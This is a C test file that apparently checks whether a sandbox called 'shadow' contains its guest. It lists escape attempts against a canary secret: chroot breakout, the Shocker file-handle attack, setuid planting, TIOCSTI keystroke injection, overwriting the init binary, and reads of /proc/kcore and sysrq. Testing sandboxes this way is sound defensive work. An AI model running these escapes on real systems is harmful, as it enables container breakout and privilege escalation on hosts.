/* SPDX-License-Identifier: Apache-2.0 */
/* Attempts on files of the host. */
#include "tests/unit/shadow/escape/escape.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#define DESCRIPTORS 4096

static int open_path(void)
{
	return read_secret(given("CANARY_PATH"));
}

/* The working directory was outside when the root changed. */
static int working_directory(void)
{
	char path[4096];

	snprintf(path, sizeof(path), "../../../../../../../..%s", given("CANARY_PATH"));
	return read_secret(path);
}

/* chroot(2) again, and then up and out. */
static int chroot_twice(void)
{
	mkdir("/data/jail", 0700);
	if (chroot("/data/jail") < 0)
		return -1;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -1;
	if (chroot(".") < 0)
		return -1;
	return read_secret(given("CANARY_PATH"));
}

static int inherited_file(void)
{
	for (int fd = 3; fd < DESCRIPTORS; fd++)
		if (read_secret_of(fd) == 0)
			return 0;
	errno = EBADF;
	return -1;
}

static int inherited_directory(void)
{
	for (int fd = 3; fd < DESCRIPTORS; fd++) {
		int file = openat(fd, "secret", O_RDONLY);

		if (file >= 0)
			return read_secret_of(file);
	}
	errno = EBADF;
	return -1;
}

/* Of whatever kind: /dev/fuse, the listener of our system calls, the record. */
static int open_descriptors(void)
{
	for (int fd = 3; fd < DESCRIPTORS; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			return 0;
	return -1;
}

/* One that is still in a socket. */
static int passed_file(void)
{
	char control[CMSG_SPACE(sizeof(int))], byte;
	struct iovec data = {&byte, 1};
	struct msghdr message = {
		.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control)};
	int fd;

	if (recvmsg((int)given_number("CANARY_SOCKET"), &message, MSG_DONTWAIT) < 0)
		return -1;
	if (!CMSG_FIRSTHDR(&message))
		return -1;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
	return read_secret_of(fd);
}

static int send_descriptor(int to, int fd)
{
	union {
		char space[CMSG_SPACE(sizeof(int))];
		struct cmsghdr header;
	} control = {.header = {.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS}};
	char hello[] = "\0AUTH EXTERNAL 30\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n";
	struct iovec data = {hello, sizeof(hello) - 1};
	struct msghdr message = {
		.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)};

	memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
	return (int)sendmsg(to, &message, MSG_NOSIGNAL);
}

/* Whether the process that answers as the service manager has a descriptor of ours and keeps it. */
static int manager_keeps(void)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "/run/systemd/private"};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), ends[2];
	struct pollfd end;

	if (fd < 0 || pipe(ends) < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 ||
	    send_descriptor(fd, ends[1]) < 0)
		return -1;
	close(ends[1]);
	end = (struct pollfd){.fd = ends[0], .events = POLLIN};
	errno = EPIPE;
	return poll(&end, 1, 3000) == 0 ? 0 : -1;
}

/* Whether it is the program that is our pid 1. */
static int is_init(const char *path)
{
	static const char name[] = "/memfd:init";
	char target[64] = "";

	return readlink(path, target, sizeof(target) - 1) > 0 && strncmp(target, name, sizeof(name) - 1) == 0;
}

/* What runs next would be the guest's. The same byte again does no harm. */
static int own_binary(void)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)getppid());
	fd = is_init(path) ? open(path, O_RDWR) : -1;
	if (fd >= 0 && pwrite(fd, "\177", 1, 0) == 1)
		return 0;
	for (fd = 3; fd < DESCRIPTORS; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if (is_init(path))
			return pwrite(fd, "\177", 1, 0) == 1 ? 0 : -1;
	}
	errno = EBADF;
	return -1;
}

/* "Shocker": a handle names a file of a file system without a path; any descriptor of the same one will do. */
static int handle(void)
{
	char space[sizeof(struct file_handle) + 128] = {0};
	struct file_handle *file = (struct file_handle *)space;
	const char *hex = given("CANARY_HANDLE");
	unsigned type, n = 0, byte;
	int fd;

	if (sscanf(hex, "%u:", &type) != 1)
		return -1;
	for (hex = strchr(hex, ':') + 1; n < 128 && sscanf(hex, "%2x", &byte) == 1; hex += 2)
		file->f_handle[n++] = (unsigned char)byte;
	file->handle_type = (int)type;
	file->handle_bytes = n;
	fd = (int)syscall(SYS_open_by_handle_at, given_number("CANARY_DIRECTORY"), file, O_RDONLY);
	return fd < 0 ? -1 : read_secret_of(fd);
}

/* For a user of the host who finds it in the layers. */
static int setuid_file(void)
{
	char buffer[65536];
	int from = open("/bin/escape", O_RDONLY), to = open("/data/setuid", O_WRONLY | O_CREAT | O_EXCL, 0755);
	ssize_t n;

	if (from < 0 || to < 0)
		return -1;
	while ((n = read(from, buffer, sizeof(buffer))) > 0)
		if (write(to, buffer, (size_t)n) != n)
			return -1;
	return chown("/data/setuid", 0, 0) < 0 ? -1 : chmod("/data/setuid", 04755);
}

static int euid(void)
{
	errno = EPERM;
	return geteuid() == 0 ? 0 : -1;
}

static int trusted_xattr(void)
{
	return setxattr("/data/file", "trusted.escape", "x", 1, 0);
}

/* Typed for whoever sits at the terminal that was inherited. */
static int terminal_input(void)
{
	return ioctl((int)given_number("CANARY_TTY"), TIOCSTI, "x");
}

static int open_for_writing(const char *path)
{
	return open(path, O_WRONLY);
}

static int sysrq(void)
{
	return open_for_writing("/proc/sysrq-trigger");
}

/* The driver looks whether the host has it now: the guest's own may be written. */
static int system_setting(void)
{
	int fd = open_for_writing("/proc/sys/vm/stat_interval");

	return fd < 0 ? -1 : (int)write(fd, "7", 1);
}

static int kernel_memory(void)
{
	char byte;
	int fd = open("/proc/kcore", O_RDONLY);

	return fd < 0 ? -1 : read(fd, &byte, 1) == 1 ? 0 : -1;
}

/* For the next run of this shadow: what it mounts on leads to the host. Those that are mount points now are busy. */
static int links_swapped(void)
{
	static const char *const points[] = {"/proc", "/dev", "/sys", "/run", "/tmp", "/etc"};
	char host[512], aside[32];

	snprintf(host, sizeof(host), "%s", given("CANARY_PATH"));
	*strrchr(host, '/') = '\0';
	for (size_t i = 0; i < sizeof(points) / sizeof(points[0]); i++) {
		snprintf(aside, sizeof(aside), "%s.aside", points[i]);
		if (rename(points[i], aside) == 0)
			(void)!symlink(host, points[i]);
	}
	return read_secret("/tmp/secret");
}

const struct attempt file_attempts[] = {
	{"open-path", open_path},
	{"working-directory", working_directory},
	{"chroot-twice", chroot_twice},
	{"inherited-file", inherited_file},
	{"inherited-directory", inherited_directory},
	{"open-descriptors", open_descriptors},
	{"passed-file", passed_file},
	{"manager-keeps", manager_keeps},
	{"links-swapped", links_swapped},
	{"own-binary", own_binary},
	{"handle", handle},
	{"setuid-file", setuid_file},
	{"euid", euid},
	{"trusted-xattr", trusted_xattr},
	{"terminal-input", terminal_input},
	{"sysrq", sysrq},
	{"system-setting", system_setting},
	{"kernel-memory", kernel_memory},
	{0},
};
